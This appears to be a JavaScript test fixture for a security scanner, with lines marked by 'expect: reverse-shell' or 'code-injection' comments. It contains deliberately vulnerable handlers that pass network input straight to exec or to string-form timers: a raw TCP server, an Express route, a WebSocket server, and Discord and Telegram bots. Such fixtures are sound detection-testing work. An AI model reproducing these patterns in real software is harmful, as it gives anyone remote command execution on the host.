import net from 'node:net';
import express from 'express';
import { exec, execFile } from 'node:child_process';
import { WebSocketServer } from 'ws';
import { Client } from 'discord.js';
import { Telegraf } from 'telegraf';

net.createServer((line) => {
  line.on('data', (text) => exec(text.toString(), (error, out) => line.write(out))); // expect: reverse-shell
}).listen(4444);

const app = express();
app.post('/run', (request, response) => {
  exec(request.body.line, (error, out) => response.send(out)); // expect: reverse-shell, command-injection
});
app.get('/load', (request, response) => execFile('uptime', [], (error, out) => response.send(out)));
app.post('/later', (request, response) => {
  const { wait } = request.body;
  setTimeout(() => response.send(request.body.line), wait);
  setInterval(response.send.bind(response, request.body.line), 1000);
  setImmediate(function () { this.last = request.body; }, request.body);
  const later = () => app.set('line', request.body.line);
  setTimeout(later, wait);
});
app.post('/text', (request) => {
  setTimeout(request.body.line, 10); // expect: reverse-shell, code-injection
  setInterval(`${request.body.line}()`, 10); // expect: reverse-shell, code-injection
});
app.listen(4445);

new WebSocketServer({ port: 4446 }).on('connection', (line) => {
  line.on('message', (text) => exec(String(text))); // expect: reverse-shell
});

const client = new Client({ intents: [] });
client.on('messageCreate', (message) => exec(message.content)); // expect: reverse-shell
client.login('0000000000.not-a-token-of-anybody');

const bot = new Telegraf(process.env.BOT_ACCOUNT);
bot.on('text', (context) => exec(context.message.text));
bot.launch();
